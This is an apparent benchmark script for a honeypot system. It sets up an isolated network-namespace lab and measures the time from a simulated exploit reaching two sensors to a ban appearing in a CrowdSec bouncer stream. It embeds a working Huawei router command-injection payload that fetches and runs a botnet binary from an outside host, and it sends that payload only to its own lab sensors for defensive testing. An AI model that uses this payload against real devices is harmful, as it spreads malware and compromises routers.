"""Latency from an exploit hitting a sensor to the ban appearing in the CrowdSec bouncer stream.

Built in network namespaces (no traffic leaves this machine): namespace `srv` runs the collector
and two sensors (two names, two locations, so the evidence is corroborated); namespace `atk`
holds the attacker at a globally routable address of our own making, which sends one exploit to
each sensor. A bouncer polls /v1/decisions/stream every 50 ms. Reference, in the same run: the
round trip of one stream poll (the floor of what any bouncer sees).
Target: under 5 seconds.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

ATTACKER, SENSOR_ADDR = "45.142.120.7", "45.142.120.1"
EXPLOIT = ("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: {host}\r\nContent-Type: text/xml\r\n"
           "Authorization: Digest username=\"dslf-config\"\r\nContent-Length: {length}\r\n\r\n{body}")
BODY = ("<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g "
        "91.92.240.10 -l /tmp/m -r /bins/mips; /tmp/m huawei)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>")


def sh(*argv: str, ns: str | None = None, check: bool = True, **kw: object) -> subprocess.CompletedProcess[str]:
    prefix = ["ip", "netns", "exec", ns] if ns else []
    return subprocess.run([*prefix, *argv], capture_output=True, text=True, check=check, **kw)  # type: ignore[call-overload]


def hg(ns: str, *args: str, **kw: object) -> subprocess.CompletedProcess[str]:
    return sh(sys.executable, "-m", "honeyguard.cli.main", *args, ns=ns, **kw)


def spawn(ns: str, args: list[str], log: Path) -> subprocess.Popen[bytes]:
    with log.open("wb") as out:
        return subprocess.Popen(["ip", "netns", "exec", ns, sys.executable, "-m", "honeyguard.cli.main", *args],
                                stdout=out, stderr=subprocess.STDOUT)


def wait_file(path: Path, proc: subprocess.Popen[bytes], log: Path, timeout: float = 180) -> None:
    deadline = time.monotonic() + timeout
    while not path.exists():
        if proc.poll() is not None or time.monotonic() > deadline:
            raise RuntimeError(log.read_text())
        time.sleep(0.05)


def build_lab(tag: str) -> tuple[str, str]:
    srv, atk = f"hgb-srv-{tag}", f"hgb-atk-{tag}"
    for ns in (srv, atk):
        sh("ip", "netns", "add", ns)
        sh("ip", "link", "set", "lo", "up", ns=ns)
    sh("ip", "link", "add", f"a{tag}", "type", "veth", "peer", "name", f"s{tag}")
    sh("ip", "link", "set", f"a{tag}", "netns", atk)
    sh("ip", "link", "set", f"s{tag}", "netns", srv)
    sh("ip", "addr", "add", f"{ATTACKER}/24", "dev", f"a{tag}", ns=atk)
    sh("ip", "addr", "add", f"{SENSOR_ADDR}/24", "dev", f"s{tag}", ns=srv)
    sh("ip", "link", "set", f"a{tag}", "up", ns=atk)
    sh("ip", "link", "set", f"s{tag}", "up", ns=srv)
    return srv, atk


def stream_poll(ns: str, url: str, key: str, startup: bool) -> dict:  # type: ignore[type-arg]
    code = ("import httpx,sys; r=httpx.get(sys.argv[1], params={'startup': sys.argv[3]}, "
            "headers={'X-Api-Key': sys.argv[2]}, timeout=10); print(r.text)")
    out = sh(sys.executable, "-c", code, f"{url}/v1/decisions/stream", key, str(startup).lower(), ns=ns).stdout
    return json.loads(out)


def main(argv: list[str]) -> None:
    if os.geteuid() != 0 or not shutil.which("ip"):
        print(json.dumps({"figure": "exploit_to_bouncer_latency_s", "error": "needs root and iproute2"}))
        return
    tag = uuid.uuid4().hex[:5]
    root = Path(tempfile.mkdtemp(prefix="hg-latency-"))
    srv, atk = build_lab(tag)
    procs: list[subprocess.Popen[bytes]] = []
    try:
        config = root / "collector.yaml"
        config.write_text(f"data_dir: {root / 'data'}\nserver: {{host: 127.0.0.1, port: 8470}}\n")
        tokens = {name: hg(srv, "sensor", "add", name, "--config", str(config)).stdout.strip()
                  for name in ("edge-a", "edge-b")}
        key = hg(srv, "bouncer", "add", "bench", "--config", str(config)).stdout.strip()
        collector = spawn(srv, ["server", "run", "--config", str(config), "--ready-file", str(root / "c.ready")],
                          root / "collector.log")
        procs.append(collector)
        wait_file(root / "c.ready", collector, root / "collector.log")
        for index, (name, token) in enumerate(tokens.items()):
            folder = root / name
            folder.mkdir()
            sensor_config = folder / "sensor.yaml"
            sensor_config.write_text(
                f"data_dir: {folder}\nsensor:\n  name: {name}\n  location: site-{index}\n  listeners:\n"
                f"    - {{service: http, host: {SENSOR_ADDR}, port: {8080 + index}}}\n"
                f"  collector: {{url: 'http://127.0.0.1:8470', token: '{token}', flush_interval: 0.05}}\n")
            proc = spawn(srv, ["sensor", "run", "--config", str(sensor_config), "--ready-file",
                               str(folder / "ready")], folder / "log")
            procs.append(proc)
            wait_file(folder / "ready", proc, folder / "log")
        stream_poll(srv, "http://127.0.0.1:8470", key, True)
        poll = time.perf_counter()
        stream_poll(srv, "http://127.0.0.1:8470", key, False)
        poll_rtt = time.perf_counter() - poll
        start = time.perf_counter()
        for port in (8080, 8081):
            request = EXPLOIT.format(host=f"{SENSOR_ADDR}:{port}", length=len(BODY), body=BODY)
            code = ("import socket,sys; s=socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10); "
                    "s.sendall(sys.argv[3].encode()); s.recv(100)")
            sh(sys.executable, "-c", code, SENSOR_ADDR, str(port), request, ns=atk)
        latency = None
        while time.perf_counter() - start < 60:
            answer = stream_poll(srv, "http://127.0.0.1:8470", key, False)
            if any(d["value"] == ATTACKER for d in answer.get("new") or []):
                latency = time.perf_counter() - start
                break
            time.sleep(0.05)
        print(json.dumps({
            "figure": "exploit_to_bouncer_latency_s", "value": round(latency, 2) if latency else None, "unit": "s",
            "reference": {"name": "one_stream_poll_s", "value": round(poll_rtt, 3), "unit": "s"},
            "ratio": round(latency / poll_rtt, 1) if latency else None, "target": "< 5 s",
            "params": {"sensors": 2, "poll_interval_s": 0.05, "flush_interval_s": 0.05},
        }), flush=True)
    finally:
        for proc in procs:
            proc.send_signal(signal.SIGTERM)
        for proc in procs:
            try:
                proc.wait(30)
            except subprocess.TimeoutExpired:
                proc.kill()
        for ns in (srv, atk):
            sh("ip", "netns", "del", ns, check=False)
        shutil.rmtree(root, ignore_errors=True)


if __name__ == "__main__":
    main(sys.argv[1:])
